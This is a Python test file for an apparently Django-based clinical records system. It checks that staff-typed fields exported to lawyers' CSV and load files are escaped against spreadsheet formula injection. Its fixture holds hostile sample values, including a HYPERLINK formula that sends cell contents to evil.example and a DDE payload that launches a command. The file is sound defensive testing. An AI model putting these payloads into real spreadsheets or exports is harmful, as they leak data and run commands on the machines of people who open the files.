"""What ward staff typed reaches a lawyer's spreadsheet as text, never as a formula."""

import csv
import io
from pathlib import Path

import pytest
from django.contrib.auth.models import User

from imaging.models import ClinicalImage
from legal import services
from legal.building import build_export_bundle
from legal.loadfiles import parse_dat
from records.models import Patient
from tests.factories import capture
from tests.legal.conftest import bundle_bytes, members

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.fixture
def typed_photo(nurse: User, patient: Patient) -> ClinicalImage:
    return capture(
        actor=nurse,
        patient=patient,
        captured_by_name="@SUM(1+1)*cmd|' /C calc'!A0",
        device=LINK,
        body_site="+1+1",
        view="-2+3",
        note="\t=1+1",
        original_filename="=cmd.jpg",
    )


def _files(legal_officer: User, patient: Patient, tmp_path: Path) -> dict[str, str]:
    matter = services.open_matter(
        actor=legal_officer,
        reference="NSWSC 2026/999",
        kind="litigation",
        court_or_body="Supreme Court of NSW",
        patients=[patient.public_id],
    )
    bundle = services.request_export(actor=legal_officer, matter=matter, prefix="RPA")
    build_export_bundle(bundle_id=bundle.pk)
    bundle.refresh_from_db()
    path = tmp_path / "bundle.zip"
    path.write_bytes(bundle_bytes(bundle, legal_officer))
    return {
        name.split("/", 1)[1]: data.decode("utf-8-sig")
        for name, data in members(path).items()
        if name.endswith((".csv", ".dat"))
    }


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_typed_text_in_the_bundle_csvs_is_escaped(
    legal_officer: User, patient: Patient, typed_photo: ClinicalImage, tmp_path: Path
) -> None:
    files = _files(legal_officer, patient, tmp_path)
    for name in ("data/metadata.csv", "data/list_of_documents.csv"):
        for row in csv.reader(io.StringIO(files[name])):
            _no_formula(row)
    metadata = list(csv.DictReader(io.StringIO(files["data/metadata.csv"])))
    assert metadata[0]["device"] == "'" + LINK
    assert metadata[0]["original_filename"] == "'=cmd.jpg"
    assert metadata[0]["view"] == "'-2+3"


def test_typed_text_in_the_load_file_and_custody_csv_is_escaped(
    legal_officer: User, patient: Patient, typed_photo: ClinicalImage, tmp_path: Path
) -> None:
    files = _files(legal_officer, patient, tmp_path)
    header, *rows = parse_dat(files["data/loadfiles/export.dat"])
    for row in rows:
        _no_formula(row)
    assert dict(zip(header, rows[0], strict=True))["VIEW"] == "'-2+3"
    for row in csv.reader(io.StringIO(files["data/chain_of_custody.csv"])):
        _no_formula(row)
